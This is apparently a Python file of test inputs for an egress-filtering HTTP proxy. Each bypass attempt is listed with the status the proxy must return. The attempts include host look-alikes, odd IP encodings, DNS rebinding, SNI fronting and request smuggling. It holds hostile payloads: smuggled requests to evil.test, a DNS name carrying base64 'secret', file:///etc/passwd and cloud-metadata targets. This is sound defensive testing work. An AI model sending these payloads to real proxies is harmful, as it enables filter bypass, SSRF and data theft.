"""The inputs of egress_peers.py and the right answer to each.

Numbers are those of the attack list of the wall; what has none was found by looking for what the
list lacks. The policy: `ok.test` and `*.w.test`, port 80 for plain HTTP and 443 for CONNECT.
"""
import dataclasses
import ssl

from peers_world import EVIL, HOST, OK, OWN, WILD

OK80, OK443, WILD80, WILD443 = f"{OK}:80", f"{OK}:443", f"{WILD}:80", f"{WILD}:443"


@dataclasses.dataclass
class Input:
    number: str
    what: str
    sends: list            # pieces; each waits for an answer to the one before
    status: tuple          # the right first statuses, one for each answer; 0: closed without one
    reaches: tuple = ()    # what the upstreams see: `address:port` of each connection, in order
    has: tuple = ()        # bytes that must get there
    lacks: tuple = ()      # and bytes that must not
    dns: tuple = ()        # names that may be asked for
    dns_most: int = 99     # and how many A queries there may be
    gets: tuple = ()       # bytes that the client must get
    spared: tuple = ()     # and bytes that it must not
    seconds: float = 8     # for the whole of it
    also: tuple = ()       # other right first statuses
    closes: bool = False   # the proxy must end it


def connect(authority, fields="", early=b"", host="x.test"):
    if isinstance(authority, str):
        authority = authority.encode()
    return b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\n" + \
        fields.encode("latin-1") + b"\r\n" + early


def get(uri, fields="", host="ok.test", method="GET", body=b"", version="HTTP/1.1"):
    if isinstance(uri, str):
        uri = uri.encode("latin-1")
    return method.encode() + b" " + uri + b" " + version.encode() + b"\r\nHost: " + host.encode() + \
        b"\r\n" + fields.encode("latin-1") + b"\r\n" + body


def denied(number, what, request, **more):
    return Input(number, what, [request], (403,), **more)


def bad(number, what, request, **more):
    return Input(number, what, [request], (400,), **more)


def tunnel(number, what, request, to=OK443, name="ok.test", **more):
    """A tunnel that is opened, and whose bytes get there and back."""
    return Input(number, what, [request, b"ping"], (200,), (to,), (b"ping",), dns=(name,),
                 gets=(b"up:", b"ping"), **more)


def plain(number, what, request, to=OK80, name="ok.test", **more):
    return Input(number, what, [request], (200,), (to,), dns=(name,), **more)


def framing(what, fields, body, **more):
    return bad("52", what, get("http://ok.test/", fields, method="POST", body=body), **more)


SMUGGLED = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
INNER = get("http://ok.test/inner")

def hello(name):
    """What a real client sends first, naming `name`; None: no name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def in_records(data, size):
    """The same handshake message in records of `size` bytes."""
    message = data[5:]
    pieces = [message[i:i + size] for i in range(0, len(message), size)]
    return b"".join(b"\x16\x03\x01" + len(piece).to_bytes(2, "big") + piece for piece in pieces)


def named(number, what, data, **more):
    return Input(number, what, [connect("ok.test:443"), data], (200,), (OK443,), (data,), dns=("ok.test",),
                 gets=(b"up:",), **more)


def cut(number, what, data, authority="ok.test:443"):
    """A tunnel that strict TLS ends before a byte of the client is passed on."""
    return Input(number, what, [connect(authority), data], (200,), None, lacks=(data[:4],), dns=("ok.test",), closes=True)


MATCHER = [
    tunnel("1", "CONNECT OK.TEST:443", connect("OK.TEST:443")),
    tunnel("2", "CONNECT ok.test.:443", connect("ok.test.:443")),
    bad("3", "ok.test..", connect("ok.test..:443")),
    denied("4", "a.ok.test", connect("a.ok.test:443")),
    denied("5", "w.test under *.w.test", connect("w.test:443")),
    tunnel("5", "a.b.w.test", connect("a.b.w.test:443"), WILD443, "a.b.w.test"),
    bad("5", ".w.test", connect(".w.test:443")),
    denied("6", "notok.test", connect("notok.test:443")),
    denied("6", "ok.test.evil.test", connect("ok.test.evil.test:443")),
    denied("6", "xw.test", connect("xw.test:443")),
    bad("7", "full-width o", connect("\uff4fk.test:443")),
    bad("7", "U+3002 as a dot", connect("ok\u3002test:443")),
    bad("7", "Kelvin sign", connect("o\u212a.test:443")),
    bad("7", "soft hyphen", connect("o\u00adk.test:443")),
    bad("7", "full-width o, GET", get("http://\uff4fk.test/".encode())),
    denied("8", "xn-- look-alike", connect("xn--k-wga.test:443")),
    bad("8", "bad punycode", connect("xn--99999999999.test:443")),
    bad("9", "ok%2etest", connect("ok%2etest:443")),
    bad("9", "http://o%6b.test/", get("http://o%6b.test/")),
    bad("10", "evil.test NUL .w.test", connect(b"evil.test\0.w.test:443")),
    bad("10", "ok.test NUL .evil", connect(b"ok.test\0.evil:443")),
    bad("12", "evil.test#.ok.test", connect("evil.test#.ok.test:443")),
    bad("12", "evil.test\\@ok.test", connect("evil.test\\@ok.test:443")),
    bad("12", "http://evil.test\\@ok.test/", get("http://evil.test\\@ok.test/")),
    bad("12", "http://ok.test@evil.test/", get("http://ok.test@evil.test/")),
    bad("12", "http://ok.test:80@evil.test/", get("http://ok.test:80@evil.test/")),
    bad("12", "http://evil.test?.ok.test in CONNECT", connect("evil.test?.ok.test:443")),
    bad("12", "http://evil.test#@ok.test/", get("http://evil.test#@ok.test/")),
    denied("12", "http://evil.test?@ok.test/", get("http://evil.test?@ok.test/")),
    bad("14", "port 443abc", connect("ok.test:443abc")),
    bad("14", "port +443", connect("ok.test:+443")),
    bad("14", "port 0", connect("ok.test:0")),
    bad("14", "port 65979", connect("ok.test:65979")),
    bad("14", "port 83617 (18081 + 65536)", connect("ok.test:83617")),
    bad("14", "port -1", connect("ok.test:-1")),
    bad("14", "no port", connect("ok.test")),
    bad("14", "port 0443", connect("ok.test:0443")),
    bad("14", "http://ok.test:/", get("http://ok.test:/")),
    bad("14", "http://ok.test:080/", get("http://ok.test:080/")),
    denied("15", "ok.test:22", connect("ok.test:22")),
    denied("15", "http://ok.test:22/", get("http://ok.test:22/")),
    denied("15", "http://ok.test:8080/", get("http://ok.test:8080/")),
    denied("15", "CONNECT ok.test:80", connect("ok.test:80")),
    denied("16", "203.0.113.9, whose PTR is ok.test", connect("203.0.113.9:443")),
    denied("16", "http://203.0.113.9/", get("http://203.0.113.9/")),
    bad("17", "2130706433", connect("2130706433:443")),
    bad("17", "0x7f.1", connect("0x7f.1:443")),
    bad("17", "0177.0.0.1", connect("0177.0.0.1:443")),
    bad("17", "127.1", connect("127.1:443")),
    bad("17", "127.0.0.1.", connect("127.0.0.1.:443")),
    denied("17", "127.0.0.1", connect("127.0.0.1:443")),
    denied("17", "[::ffff:127.0.0.1]", connect("[::ffff:127.0.0.1]:443")),
    bad("17", "[::1%eth0]", connect("[::1%eth0]:443")),
    denied("17", f"the allowed host's own address {OK}", connect(OK443)),
    denied("31", "single label redis", connect("redis:443")),
    denied("39", "the proxy itself, 127.0.0.1:18081", connect("127.0.0.1:18081")),
    denied("39", "localhost", connect("localhost:443")),
    denied("41", "SMTP port", connect("ok.test:25")),
    bad("+", "CONNECT with a path", connect("ok.test:443/evil.test")),
    bad("+", "CONNECT of a URI", connect("http://ok.test:443/")),
    bad("+", "CONNECT with a user", connect("x@ok.test:443")),
    bad("+", "CONNECT with two targets", connect("ok.test:443 evil.test:443")),
    tunnel("+", "CONNECT ok.test, Host: evil.test", connect("ok.test:443", host="evil.test:443")),
    denied("+", "CONNECT evil.test, Host: ok.test", connect("evil.test:443", host="ok.test:443")),
    bad("+", "http:ok.test/", get("http:ok.test/")),
    bad("+", "http:///ok.test/", get("http:///ok.test/")),
    bad("+", "//ok.test/", get("//ok.test/")),
    bad("+", "ws://ok.test/", get("ws://ok.test/")),
    bad("+", "http://ok.test/ with a raw byte 0xe9", get("http://ok.test/\xe9")),
    bad("+", "tab between method and target", b"GET\thttp://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    bad("+", "two blanks in the request line", b"GET  http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    bad("+", "HTTP/0.9", b"GET http://ok.test/\r\n\r\n"),
    bad("+", "HTTP/1.10", get("http://ok.test/", version="HTTP/1.10"), also=(505,)),
    bad("+", "HTTP/2.0 in text", get("http://ok.test/", version="HTTP/2.0"), also=(505,)),
    bad("+", "http://ok.test:80:80/", get("http://ok.test:80:80/")),
    bad("+", "a bracketed name", connect("[ok.test]:443")),
    bad("+", "a label of 64 bytes", connect("a" * 64 + ".w.test:443")),
    bad("+", "a name of 254 bytes", connect("a." * 123 + "aw.w.test:443")),
    denied("+", "an address of version 6", connect("[2606:4700::1]:443")),
    denied("+", "[::ffff:93.184.216.34]", connect("[::ffff:93.184.216.34]:443")),
    tunnel("+", "a service label, _x.w.test", connect("_x.w.test:443"), WILD443, "_x.w.test"),
    bad("+", "an asterisk, *.w.test", connect("*.w.test:443")),
]

DNS = [
    denied("21", "data in a denied name", connect("c2VjcmV0.evil.test:443")),
    denied("21", "the same, GET", get("http://c2VjcmV0.evil.test/")),
    *[denied("22", f"allowed name at {where}", connect(f"{name}.w.test:443"),
             dns=(f"{name}.w.test",))
      for name, where in (("loop", "127.0.0.1"), ("meta", "169.254.169.254"), ("ten", "10.0.0.5"),
                          ("own", f"the proxy's own {OWN}"), ("host", f"the public address of the host around it, {HOST}"), ("zero", "0.0.0.0"),
                          ("map", "::ffff:127.0.0.1"), ("nat64", "64:ff9b::7f00:1"),
                          ("sixtofour", "2002:7f00:1::1"))],
    denied("22", "http:// to a name at 127.0.0.1", get("http://loop.w.test/"), dns=("loop.w.test",)),
    tunnel("23", "rebinding: public once, then 127.0.0.1", connect("rebind.w.test:443"), WILD443,
           "rebind.w.test", dns_most=1),
    denied("23", "the second connection is judged afresh", connect("rebind.w.test:443"),
           dns=("rebind.w.test",)),
    tunnel("24", "mixed answer: 169.254.169.254 and a public one", connect("mixed.w.test:443"), WILD443,
           "mixed.w.test"),
    denied("26", "alias of a private host", connect("inside.w.test:443"), dns=("inside.w.test",)),
    tunnel("26", "alias of a public host", connect("outside.w.test:443"), WILD443, "outside.w.test"),
    Input("27", "SERVFAIL", [connect("broken.w.test:443")], (502,), dns=("broken.w.test",), also=(504,),
          seconds=8),
    Input("27", "NXDOMAIN", [connect("nx.w.test:443")], (502,), dns=("nx.w.test",)),
    Input("27", "no address", [connect("empty.w.test:443")], (502,), dns=("empty.w.test",)),
    Input("27", "an alias of itself", [connect("circle.w.test:443")], (502,), dns=("circle.w.test",),
          seconds=8),
    Input("27", "silence: an end within 6 s", [connect("silent.w.test:443")], (504,),
          dns=("silent.w.test",), seconds=6),
    Input("27", "3,500 answers: an end", [connect("many.w.test:443")], (502,), dns=("many.w.test",),
          also=(504, 200), seconds=12),
]

TUNNEL = [
    Input("33", "early data behind CONNECT", [connect("ok.test:443", early=b"early-data")], (200,), (OK443,),
          (b"early-data",), dns=("ok.test",), gets=(b"early-data",)),
    bad("+", "CONNECT with Content-Length", connect("ok.test:443", "Content-Length: 4\r\n", b"ping")),
    bad("+", "CONNECT with chunked", connect("ok.test:443", "Transfer-Encoding: chunked\r\n", b"0\r\n\r\n")),
    Input("38", "half a head: closed within 12 s", [b"GET http://ok.test/ HTTP/1.1\r\nHo"], (408,), also=(0, 400),
          seconds=12),
    denied("51", "denied CONNECT, then GET to ok in one packet", connect("evil.test:443") + get("http://ok.test/")),
    bad("46", "TLS hello to the proxy", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(80)),
    bad("46", "SOCKS5 to the proxy", b"\x05\x01\x00"),
    bad("46", "HTTP/2 with prior knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
]

TLS = [
    named("42", "SNI ok.test", hello("ok.test")),
    named("42", "SNI evil.test (fronting; not seen without strict TLS)", hello("evil.test")),
    named("44", "plain HTTP in the tunnel with Host: evil.test (the same)", get("/", host="evil.test")),
]

STRICT = [
    named("42", "SNI ok.test", hello("ok.test")),
    named("42", "SNI OK.test", hello("ok.test").replace(b"ok.test", b"OK.test")),
    named("42", "hello in records of 50 bytes", in_records(hello("ok.test"), 50)),
    Input("42", "hello as early data", [connect("ok.test:443", early=hello("ok.test"))], (200,), (OK443,), (b"ok.test",),
          dns=("ok.test",), gets=(b"up:",)),
    cut("42", "SNI evil.test", hello("evil.test")),
    cut("42", "SNI evil.test in records of 50 bytes", in_records(hello("evil.test"), 50)),
    cut("42", "SNI a.ok.test", hello("a.ok.test")),
    cut("42", "no SNI", hello(None)),
    cut("42", "SNI ok.test NUL", hello("ok.test1").replace(b"ok.test1", b"ok.test\0")),
    cut("42", "two lengths that disagree", hello("ok.test").replace(b"\x00\x07ok.test", b"\x00\x06ok.test")),
    cut("41", "SSH in the tunnel", b"SSH-2.0-OpenSSH_9\r\n"),
    cut("41", "SMTP in the tunnel", b"EHLO ok.test\r\n"),
    cut("44", "plain HTTP in the tunnel", get("/", host="evil.test")),
    cut("46", "TLS alert first", b"\x15\x03\x01\x00\x02\x02\x28"),
]

FORWARD = [
    plain("47", "http://ok.test/ with Host: evil.test", get("http://ok.test/", host="evil.test"),
          has=(b"Host: ok.test\r\n",), lacks=(b"evil",)),
    denied("48", "http://evil.test/ with Host: ok.test", get("http://evil.test/")),
    bad("49", "GET / with Host", get("/")),
    bad("49", "OPTIONS *", get("*", method="OPTIONS")),
    bad("+", "two Host fields", get("http://ok.test/", "Host: evil.test\r\n")),
    bad("+", "no Host", b"GET http://ok.test/ HTTP/1.1\r\n\r\n"),
    bad("+", "Host with a blank in it", get("http://ok.test/", host="ok.test evil.test")),
    denied("+", "Expect: 100-continue to evil", get("http://evil.test/", "Expect: 100-continue\r\nContent-Length: 4\r\n", method="POST"),
           spared=(b"100 Continue",)),
    Input("51", "a POST to evil whose body is a request to ok",
          [get("http://evil.test/", f"Content-Length: {len(INNER)}\r\n", method="POST", body=INNER)], (403,)),
    plain("52", "trailers of a request with a Host",
          get("http://ok.test/", "Transfer-Encoding: chunked\r\n", method="POST",
              body=b"4\r\nping\r\n0\r\nHost: evil.test\r\n\r\n"), has=(b"ping",), lacks=(b"evil",)),
    Input("51", "keep-alive: ok, then evil", [get("http://ok.test/a"), get("http://evil.test/b")], (200, 403),
          (OK80,), lacks=(b"evil", b"/b"), dns=("ok.test",)),
    Input("51", "pipelined ok and evil", [get("http://ok.test/a") + get("http://evil.test/b")], (200, 403),
          (OK80,), lacks=(b"evil", b"/b"), dns=("ok.test",)),
    Input("51", "ok, then CONNECT evil", [get("http://ok.test/a") + connect("evil.test:443")], (200, 403),
          (OK80,), lacks=(b"evil",), dns=("ok.test",)),
    Input("51", "ok, then another allowed host", [get("http://ok.test/a"), get("http://b.w.test/b", host="b.w.test")],
          (200, 200), (OK80, WILD80), (b"Host: b.w.test",), dns=("ok.test", "b.w.test")),
    framing("Content-Length and chunked", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    framing("two different lengths", "Content-Length: 0\r\nContent-Length: 53\r\n", SMUGGLED),
    framing("length 4, 4", "Content-Length: 4, 4\r\n", b"ping"),
    framing("length +4", "Content-Length: +4\r\n", b"ping"),
    framing("length 0x4", "Content-Length: 0x4\r\n", b"ping"),
    framing("length -1", "Content-Length: -1\r\n", b"ping"),
    framing("length 2^64 + 4", "Content-Length: 18446744073709551620\r\n", b"ping", also=(413,)),
    framing("empty length", "Content-Length: \r\n", b"ping"),
    framing("blank in the length", "Content-Length: 4 4\r\n", b"ping"),
    framing("xchunked", "Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n", also=(501,)),
    framing("chunked, identity", "Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n", also=(501,)),
    framing("identity", "Transfer-Encoding: identity\r\nContent-Length: 4\r\n", b"ping", also=(501,)),
    framing("gzip, chunked", "Transfer-Encoding: gzip, chunked\r\n", b"0\r\n\r\n", also=(501,)),
    framing("chunked twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n", also=(501,)),
    framing("vertical tab before chunked", "Transfer-Encoding: \x0bchunked\r\n", b"0\r\n\r\n", also=(501,)),
    bad("52", "chunked in HTTP/1.0", get("http://ok.test/", "Transfer-Encoding: chunked\r\n", method="POST",
                                         body=b"0\r\n\r\n", version="HTTP/1.0")),
    *[Input("52", what, [get("http://ok.test/", "Transfer-Encoding: chunked\r\n", method="POST", body=body)],
            (400,), None, lacks=(b"evil", body), dns=("ok.test",))
      for what, body in (("chunk size 0x4", b"0x4\r\nping\r\n0\r\n\r\n"), ("chunk size -4", b"-4\r\nping\r\n0\r\n\r\n"),
                         ("chunk size with a blank", b"4 \r\nping\r\n0\r\n\r\n"),
                         ("chunk line ended by LF", b"4\nping\n0\n\n"),
                         ("chunk without its CRLF", b"4\r\nping0\r\n\r\n"),
                         ("chunk size of 17 digits", b"10000000000000004\r\nping\r\n0\r\n\r\n"),
                         ("chunk extension of 20 KB", b"4;" + b"x" * 20000 + b"\r\nping\r\n0\r\n\r\n"))],
    plain("52", "chunk extension with a quoted CRLF look-alike",
          get("http://ok.test/", "Transfer-Encoding: chunked\r\n", method="POST",
              body=b"4;a=\"b\"\r\nping\r\n0\r\n\r\n"), has=(b"ping",), lacks=(b"a=",)),
    plain("+", "GET whose body is a request", get("http://ok.test/", f"Content-Length: {len(SMUGGLED)}\r\n", body=SMUGGLED),
          has=(SMUGGLED,)),
    bad("53", "Host : ok.test", get("http://ok.test/", "X : y\r\n")),
    bad("53", "folded line", get("http://ok.test/", "A: b\r\n c: d\r\n")),
    bad("53", "bare LF", get("http://ok.test/").replace(b"\r\n", b"\n")),
    bad("53", "bare LF in a field", get("http://ok.test/", "A: b\nC: d\r\n")),
    bad("53", "bare CR in a value", get("http://ok.test/", "A: b\rX: c\r\n")),
    bad("53", "NUL in a value", get("http://ok.test/", "A: b\0c\r\n")),
    bad("53", "empty field name", get("http://ok.test/", ": b\r\n")),
    bad("53", "line without a colon", get("http://ok.test/", "abc\r\n")),
    bad("53", "blank before the first field", b"GET http://ok.test/ HTTP/1.1\r\n Host: ok.test\r\n\r\n"),
    plain("54", "Connection: host, content-length",
          get("http://ok.test/", "Connection: host, content-length\r\nContent-Length: 4\r\n", method="POST", body=b"ping"),
          has=(b"Host: ok.test\r\n", b"ping")),
    plain("54", "Proxy-Authorization & co.",
          get("http://ok.test/", "Proxy-Authorization: Basic eHg6eXk=\r\nProxy-Connection: keep-alive\r\nTE: trailers\r\n"
              "Keep-Alive: timeout=9\r\n"),
          lacks=(b"eHg6", b"Proxy-", b"TE:", b"timeout=9")),
    plain("54", "a field that Connection names", get("http://ok.test/", "Connection: x-hop\r\nX-Hop: 1\r\n"), lacks=(b"X-Hop",)),
    bad("55", "https://ok.test/", get("https://ok.test/")),
    bad("55", "ftp://ok.test/", get("ftp://ok.test/")),
    plain("55", "HTTP://ok.test/", get("HTTP://ok.test/")),
    bad("55", "file:///etc/passwd", get("file:///etc/passwd")),
    bad("55", "cache_object://ok.test/", get("cache_object://ok.test/info")),
    plain("57", "Upgrade: h2c", get("http://ok.test/", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"),
          lacks=(b"h2c", b"HTTP2")),
    bad("58", "TRACE", get("http://ok.test/", method="TRACE"), also=(405,)),
    bad("58", "lower-case connect", b"connect ok.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n", also=(405,)),
    bad("58", "lower-case get", b"get http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n", also=(405,)),
    bad("58", "method of 100 KB", b"A" * 100_000 + b" http://ok.test/ HTTP/1.1\r\n\r\n", also=(431, 414)),
    bad("58", "70 KB field", get("http://ok.test/", "A: " + "a" * 70_000 + "\r\n"), also=(431,)),
    bad("58", "2 MB of fields", get("http://ok.test/", "A: aaaaaaaaaa\r\n" * 150_000), also=(431,), seconds=6),
    bad("58", "70 KB target", get("http://ok.test/" + "a" * 70_000), also=(431, 414)),
    plain("60", "HEAD", get("http://ok.test/", method="HEAD")),
    Input("40", "302 to evil.test, followed", [get("http://ok.test/redirect"), get("http://evil.test/")], (302, 403),
          (OK80,), lacks=(b"evil",), dns=("ok.test",)),
    *[Input("60", f"answer {what}", [get(f"http://ok.test/{path}")], (502,), (OK80,), dns=("ok.test",))
      for path, what in (("both", "with length and chunked"), ("lengths", "with two lengths"), ("folded", "with a folded line"),
                         ("barelf", "with bare LF"), ("nul", "with NUL"), ("unasked101", "101 that nobody asked for"),
                         ("interim", "40 interim heads"))],
    plain("60", "answer forging our reason field", get("http://ok.test/reason"), spared=(b"forged",)),
    plain("60", "answer with trailers and chunk extensions", get("http://ok.test/trailers"), spared=(b"Set-Cookie", b"x=y")),
    Input("60", "204 with a body, then another request", [get("http://ok.test/204body"), get("http://ok.test/a")], (204, 200),
          None, dns=("ok.test",), spared=(b"smuggled",)),
]

ALL = [("Matcher", MATCHER), ("DNS", DNS), ("Tunnel", TUNNEL), ("TLS", TLS), ("HTTP forward", FORWARD)]
ALL_STRICT = [("Strict TLS, which ours alone has", STRICT)]
NAMES = {OK: "ok.test", WILD: "w.test", EVIL: "evil.test", OWN: "own", HOST: "host", "203.0.113.9": "203.0.113.9"}
